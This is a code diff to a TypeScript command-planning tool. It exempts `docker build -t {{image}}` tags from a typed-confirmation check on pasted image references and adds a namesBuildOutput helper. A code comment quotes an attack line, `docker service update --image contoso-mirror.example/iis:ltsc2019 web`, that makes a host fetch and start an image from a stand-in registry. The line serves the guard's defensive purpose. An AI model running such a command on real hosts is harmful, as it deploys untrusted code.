@@ -279,7 +279,9 @@ export function planFix(topic: Topic, fixId: string, values: Readonly<Record<str
   // An image the paste named, in a fix that pulls, runs or deploys it, asks for the typed word whatever the fix's risk:
   // a paste copied from a log or a public thread chose what the host would fetch and start, and one `y` ran it (found
   // by an attacker helper: `docker service update --image contoso-mirror.example/iis:ltsc2019 web` from a pasted line).
-  const pastedImage = fix.readOnly === true ? undefined : placeholders.find((p) => p.from === 'entity' && p.kind === 'image-ref')?.value;
+  // (Not the tag a build gives what it makes, `docker build -t {{image}} .`: nothing is fetched or started from it; a
+  // regression tester.)
+  const pastedImage = fix.readOnly === true ? undefined : placeholders.find((p) => p.from === 'entity' && p.kind === 'image-ref' && !namesBuildOutput(fix.command, p.name))?.value;
   return ok({
     topic: topic.id,
     fix: fix.id,
@@ -297,6 +299,13 @@ export function planFix(topic: Topic, fixId: string, values: Readonly<Record<str
     placeholders,
     redacted: { command, argv, ...(script === undefined ? {} : { script }), ...(pasteCommand === undefined ? {} : { pasteCommand }) },
   });
+}
+
+/** Whether the template uses placeholder `name` only as the tag of what a build makes (`-t {{name}}`, `--tag={{name}}`). */
+function namesBuildOutput(command: string, name: string): boolean {
+  const uses = command.split(`{{${name}}}`).length - 1;
+  const asTag = command.split(new RegExp(`(?:^|\\s)(?:-t|--tag)(?:\\s+|=)\\{\\{${name}\\}\\}`)).length - 1;
+  return uses > 0 && uses === asTag && /\bbuild\b/.test(command);
 }
 
 /**
